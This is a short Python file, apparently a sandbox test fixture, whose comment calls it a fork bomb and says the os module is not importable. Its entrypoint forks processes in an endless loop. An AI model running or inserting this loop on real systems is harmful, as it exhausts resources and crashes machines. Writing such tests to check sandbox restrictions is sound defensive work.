# A fork bomb through os: os is not importable.
import os


def entrypoint(argv):
    while True:
        os.fork()
